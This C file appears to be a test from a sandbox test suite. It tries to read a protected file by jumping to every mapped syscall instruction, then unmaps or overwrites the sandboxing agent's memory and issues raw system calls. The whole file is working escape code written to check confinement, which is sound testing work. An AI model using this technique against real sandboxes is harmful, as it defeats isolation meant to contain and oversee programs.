/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Code reuse: jump to every syscall instruction that is mapped, the agent's gates and the trampolines
 * included, with registers of our own. Then spoil and unmap what is not ours, and call the kernel directly.
 */
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>

#include "attack.h"

struct region {
        unsigned long start, end;
        bool executable, writable;
        char name[256];
};

static struct region regions[4096];
static int region_count;

static void read_regions(void)
{
        FILE *maps = fopen("/proc/self/maps", "re");
        char line[512], permissions[8];

        region_count = 0;
        while (maps && region_count < 4096 && fgets(line, sizeof(line), maps)) {
                struct region *r = &regions[region_count];
                r->name[0] = 0;
                if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %255[^\n]", &r->start, &r->end, permissions,
                           r->name) < 3)
                        continue;
                r->executable = permissions[2] == 'x' && permissions[0] == 'r';
                r->writable = permissions[1] == 'w';
                region_count++;
        }
        if (maps)
                fclose(maps);
}

struct gate {
        unsigned long address;
        const char *path;
        char stack[16384];
};

/* Shares descriptors with its parent and dies somewhere behind the gate; an open would stay behind. */
static int through(void *argument)
{
        struct gate *gate = argument;

        alarm(2);
        __asm__ volatile("mov %0, %%rcx\n\tjmp *%%rcx"
                         :
                         : "r"(gate->address), "a"(SYS_open), "D"(gate->path), "S"(O_RDONLY), "d"(0)
                         : "rcx", "r11", "memory");
        return 0;
}

static int highest_descriptor(void)
{
        int highest = 2;

        for (int fd = 3; fd < 256; fd++)
                if (fcntl(fd, F_GETFD) >= 0)
                        highest = fd;
        return highest;
}

static void try_gate(unsigned long address)
{
        static struct gate gate;
        int before = highest_descriptor(), status;

        gate.address = address;
        gate.path = in_dir("secret/file");
        pid_t pid = clone(through, gate.stack + sizeof(gate.stack) - 64, CLONE_FILES | SIGCHLD, &gate);
        if (pid < 0)
                return;
        waitpid(pid, &status, 0);
        for (int fd = before + 1; fd < 256; fd++)
                if (is_secret(fd))
                        escaped("the gate at %#lx opened it", address);
}

static void all_gates(void)
{
        int tried = 0;

        read_regions();
        for (int i = 0; i < region_count; i++) {
                const unsigned char *code = (const unsigned char *)regions[i].start;
                int here = 0;
                if (!regions[i].executable || strstr(regions[i].name, "vsyscall"))
                        continue;
                /* All of what belongs to no file that we know, and a few of each library. */
                int limit = strstr(regions[i].name, "/lib") || strstr(regions[i].name, "attack") ? 5 : 60;
                for (unsigned long at = 0; at + 1 < regions[i].end - regions[i].start && here < limit; at++)
                        if (code[at] == 0x0f && code[at + 1] == 0x05) {
                                try_gate(regions[i].start + at);
                                here++;
                                tried++;
                        }
        }
        printf("%d gates tried\n", tried);
}

static long raw(long number, long a, long b, long c)
{
        long result;

        __asm__ volatile("syscall"
                         : "=a"(result)
                         : "0"(number), "D"(a), "S"(b), "d"(c)
                         : "rcx", "r11", "memory");
        return result;
}

static bool is_ours(const struct region *r)
{
        unsigned long here = (unsigned long)&raw, data = (unsigned long)&regions;
        unsigned long stack = (unsigned long)__builtin_frame_address(0);

        return strstr(r->name, "attack_gates") || strstr(r->name, "libc") || strstr(r->name, "ld-linux") ||
               strstr(r->name, "[v") || strstr(r->name, "[stack") || strstr(r->name, "[heap") ||
               (here >= r->start && here < r->end) || (data >= r->start && data < r->end) ||
               (stack >= r->start && stack < r->end);
}

static void without_the_agent(int way)
{
        const char *secret = in_dir("secret/file");

        read_regions();
        for (int i = 0; i < region_count; i++) {
                const struct region *r = &regions[i];
                if (is_ours(r) || r->end - r->start > (1ul << 30))
                        continue;
                if (way == 0) {
                        raw(SYS_munmap, (long)r->start, (long)(r->end - r->start), 0);
                        continue;
                }
                if (!r->writable &&
                    raw(SYS_mprotect, (long)r->start, (long)(r->end - r->start), PROT_READ | PROT_WRITE) < 0)
                        continue;
                for (unsigned long at = r->start; at < r->end; at += 8)
                        *(volatile unsigned long *)at = way == 1 ? 0 : 0xdeadbeefdeadbeef;
        }
        long fd = raw(SYS_open, (long)secret, O_RDONLY, 0);
        char text[6];
        if (fd >= 0 && raw(SYS_read, fd, (long)text, 6) == 6 && text[0] == 'S')
                raw(SYS_exit_group, 1, 0, 0);
        raw(SYS_exit_group, 0, 0, 0);
}

int main(void)
{
        all_gates();
        for (int way = 0; way < 3; way++) {
                int status;
                pid_t pid = fork();
                if (pid == 0)
                        without_the_agent(way);
                waitpid(pid, &status, 0);
                if (WIFEXITED(status) && WEXITSTATUS(status))
                        escaped("without the agent, way %d", way);
        }
        still_confined();
        return finished();
}
